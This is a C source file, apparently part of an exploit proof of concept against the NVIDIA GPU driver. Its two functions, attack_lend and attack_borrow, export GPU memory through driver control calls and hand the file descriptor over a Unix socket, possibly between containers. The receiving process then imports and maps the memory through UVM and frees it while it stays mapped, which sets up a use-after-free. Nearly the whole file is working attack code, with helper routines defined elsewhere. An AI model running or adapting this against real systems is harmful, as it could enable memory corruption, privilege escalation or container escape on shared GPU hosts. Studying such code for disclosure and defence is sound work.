/* Memory that is handed on by a descriptor: by two processes that meet at a socket in the file system, of one container or of two. */
#include "attack.h"

#include <sys/un.h>

#define EXPORT 0x3d0b
#define IMPORT 0x3d0c

struct export
{ /* NV0000_CTRL_OS_UNIX_EXPORT_OBJECTS_TO_FD_PARAMS */
    int32_t descriptor;
    uint32_t device;
    uint16_t most;
    uint8_t metadata[64];
    uint16_t spare;
    uint32_t objects[512];
    uint16_t count, index;
};
struct import { /* NV0000_CTRL_OS_UNIX_IMPORT_OBJECTS_FROM_FD_PARAMS */
    int32_t descriptor;
    uint32_t parent, objects[128];
    uint8_t types[128];
    uint16_t count, index;
};
_Static_assert (sizeof (struct export) == 2128 && offsetof (struct export, objects) == 76, "");
_Static_assert (sizeof (struct import) == 652 && offsetof (struct import, count) == 648, "");

static struct sockaddr_un address_of (const char *path)
{
    struct sockaddr_un address = { .sun_family = AF_UNIX };

    snprintf (address.sun_path, sizeof (address.sun_path), "%s", path);
    return address;
}

/* lend SOCKET MIB: a piece is exported and handed to any process that connects; a line: it is freed; another one: the process ends. */
void attack_lend (int argc, char **argv)
{
    struct sockaddr_un address = address_of (argc > 0 ? argv[0] : "");
    int server = socket (AF_UNIX, SOCK_STREAM, 0), file = open ("/dev/nvidiactl", O_RDWR);
    struct bed bed = bed_open ();
    struct export params = { .descriptor = file, .device = bed.device, .most = 1, .count = 1 };
    uint32_t handle, status = bed_memory (&bed, &handle, (argc > 1 ? (uint64_t) atoi (argv[1]) : 1024) * MIB);

    params.objects[0] = handle;
    say ("memory", status);
    say ("export", bed_control (&bed, bed.client, EXPORT, &params, sizeof (params)));
    if (bind (server, (struct sockaddr *) &address, sizeof (address)) == 0 && listen (server, 1) == 0) {
        say ("ready", 1);
        send_descriptor (accept (server, NULL, NULL), file);
    }
    close (file);
    hold ();
    say ("freed", bed_free (&bed, handle));
    hold ();
}

/* borrow SOCKET: the piece is imported and mapped in UVM; a line: it is freed, and stays mapped; another one: the process ends. */
void attack_borrow (int argc, char **argv)
{
    struct sockaddr_un address = address_of (argc > 0 ? argv[0] : "");
    struct bed bed = bed_open ();
    struct uvm uvm = uvm_begin (&bed, false);
    struct import params = { .parent = bed.device, .count = 1 };
    int peer = socket (AF_UNIX, SOCK_STREAM, 0);

    if (connect (peer, (struct sockaddr *) &address, sizeof (address)) != 0)
        exit (3);
    params.descriptor = receive_descriptor (peer);
    say ("import", bed_control (&bed, bed.client, IMPORT, &params, sizeof (params)));
    close (params.descriptor);
    if (argc > 1)
        say ("mapped", uvm_map (&uvm, &bed, 0, params.objects[0], (uint64_t) atoi (argv[1]) * MIB));
    hold ();
    say ("freed", bed_free (&bed, params.objects[0]));
    hold ();
}
